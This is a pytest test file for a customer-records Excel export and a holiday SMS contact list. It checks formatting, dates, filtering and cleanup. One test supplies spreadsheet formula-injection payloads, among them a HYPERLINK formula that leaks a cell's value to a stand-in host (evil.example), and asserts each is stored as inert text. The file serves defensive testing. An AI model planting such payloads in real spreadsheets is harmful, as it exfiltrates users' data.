"""Excel export (issue 4 item 11): frozen header, auto-filter, widths, real date cells, no cell
that can run as a formula; and the holiday SMS list (第四篇 六3) without the blacklisted
(R-GRD-5) and the void (R-CUS-3)."""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from records_desk.exchange.customers.export import (
    ColumnKind,
    ExportColumn,
    SmsCandidate,
    write_customers,
    write_sms_contacts,
)

COLUMNS = [
    ExportColumn("archive_no", "檔案編號"),
    ExportColumn("name", "客戶名稱"),
    ExportColumn("phone", "電話"),
    ExportColumn("event_date", "事件日期", ColumnKind.DATE),
    ExportColumn("entered_at", "錄入時間", ColumnKind.DATETIME),
    ExportColumn("product_lines", "產品線"),
    ExportColumn("score", "分數", ColumnKind.NUMBER),
]


def rows(n: int) -> Iterator[dict[str, object]]:
    for i in range(n):
        yield {
            "archive_no": f"CS-2026-{i + 1:05d}",
            "name": f"台灣測試股份有限公司{i}",
            "phone": f"09{i:08d}",
            "event_date": date(2026, 1, 1 + i % 28),
            "entered_at": datetime(2026, 1, 2, 9, 30),
            "product_lines": ("冷氣", "除濕機"),
            "score": 100 - i % 7,
        }


@pytest.mark.parametrize(
    ("value", "read_back"),
    [
        ('=HYPERLINK("x")', None),
        ('=HYPERLINK("http://evil.example/?leak="&A1,"點我")', None),
        ("+1+2", None),
        ("-2+3", None),
        ("@SUM(A1:A2)", None),
        ("\t=1+1", None),
        ("\r=1+1", "\n=1+1"),  # XML reads every CR as a line feed; still text
        ("=", None),
        ("#N/A", None),  # an error code is no error cell either
    ],
)
def test_formula_like_text_comes_back_as_the_same_text_never_a_formula(
    tmp_path: Path, value: str, read_back: str | None
) -> None:
    path = tmp_path / "view.xlsx"
    write_customers([{"name": value}], [ExportColumn("name", "客戶名稱")], path)
    cell = load_workbook(path)["客戶"]["A2"]  # loaded normally: a formula would be type 'f'
    assert cell.value == (read_back or value) and cell.data_type == "s"
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited, and shows no '
    assert load_workbook(path, data_only=True)["客戶"]["A2"].value == (read_back or value)


def test_ordinary_text_is_not_quote_prefixed(tmp_path: Path) -> None:
    path = tmp_path / "view.xlsx"
    write_customers([{"name": "王大明", "phone": "0912-345-678"}], COLUMNS, path)
    ws = load_workbook(path).active
    assert ws["B2"].value == "王大明" and not ws["B2"].quotePrefix
    assert ws["C2"].value == "0912-345-678"


def test_dates_are_real_date_cells(tmp_path: Path) -> None:
    path = tmp_path / "view.xlsx"
    write_customers(rows(3), COLUMNS, path)
    ws = load_workbook(path).active
    assert ws["D2"].is_date and ws["D2"].value.date() == date(2026, 1, 1)
    assert ws["D2"].number_format == "yyyy/mm/dd"
    assert ws["E2"].is_date and ws["E2"].value == datetime(2026, 1, 2, 9, 30)
    assert ws["E2"].number_format == "yyyy/mm/dd hh:mm"
    assert ws["G2"].value == 100 and ws["G2"].data_type == "n"
    assert ws["F2"].value == "冷氣、除濕機"


def test_frozen_header_auto_filter_and_column_widths(tmp_path: Path) -> None:
    path = tmp_path / "view.xlsx"
    assert write_customers(rows(2500), COLUMNS, path, sheet_title="客戶檔案") == 2500
    wb = load_workbook(path)
    ws = wb["客戶檔案"]
    assert [c.value for c in ws[1]] == [c.header for c in COLUMNS]
    assert ws["A1"].font.b
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:G2501"
    assert ws.max_row == 2501
    widths = {c: ws.column_dimensions[c].width for c in "ABCDEFG"}
    assert widths["B"] > widths["A"] > widths["G"]  # fitted: CJK counts double
    assert widths["D"] >= 12


def test_an_empty_export_still_has_its_header_and_filter(tmp_path: Path) -> None:
    path = tmp_path / "empty.xlsx"
    assert write_customers([], COLUMNS, path) == 0
    ws = load_workbook(path).active
    assert ws.max_row == 1 and ws.auto_filter.ref == "A1:G1"


def test_control_characters_are_dropped_not_fatal(tmp_path: Path) -> None:
    path = tmp_path / "view.xlsx"
    write_customers([{"name": "王\x00大\x1b明\n二行"}], COLUMNS, path)
    assert load_workbook(path).active["B2"].value == "王大明\n二行"


def test_a_failed_export_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken() -> Iterator[dict[str, object]]:
        yield from rows(300)
        raise RuntimeError("database went away")

    scratch = tmp_path / "scratch"  # where openpyxl streams the sheet before zipping it
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(RuntimeError):
        write_customers(broken(), COLUMNS, out / "view.xlsx")
    assert list(out.iterdir()) == [] and list(scratch.iterdir()) == []


def test_sms_list_leaves_out_blacklisted_void_and_no_mobile_R_GRD_5(tmp_path: Path) -> None:
    candidates = [
        SmsCandidate("王大明", ["02-2345-6789", "0912-345-678"]),
        SmsCandidate("黑名單", ["0912000001"], blacklisted=True),
        SmsCandidate("已作廢", ["0912000002"], void=True),
        SmsCandidate("只有市話", ["02-2345-6789"]),
        SmsCandidate("王大明(重複)", ["+886 912 345 678"]),
        SmsCandidate("陸籍客戶", ["+86 138 1234 5678"]),
        SmsCandidate('=HYPERLINK("x")', ["0912000003"]),
    ]
    path = tmp_path / "sms.xlsx"
    result = write_sms_contacts(candidates, path)
    assert (result.written, result.blacklisted, result.void) == (3, 1, 1)
    assert (result.no_mobile, result.repeated) == (1, 1)
    ws = load_workbook(path).active
    assert [[c.value for c in row] for row in ws.iter_rows()] == [
        ["姓名", "手機"],
        ["王大明", "0912345678"],  # text: the leading 0 stays
        ["陸籍客戶", "13812345678"],
        ['=HYPERLINK("x")', "0912000003"],
    ]
    assert ws["B2"].data_type == "s" and ws["A4"].data_type == "s"


def test_aware_times_are_written_as_the_office_clock_reads_them(tmp_path: Path) -> None:
    entered = datetime(2026, 1, 2, 1, 30, tzinfo=UTC)  # as the database keeps them
    path = tmp_path / "view.xlsx"
    write_customers([{"entered_at": entered}], COLUMNS, path)
    assert load_workbook(path).active["E2"].value == entered.astimezone().replace(tzinfo=None)
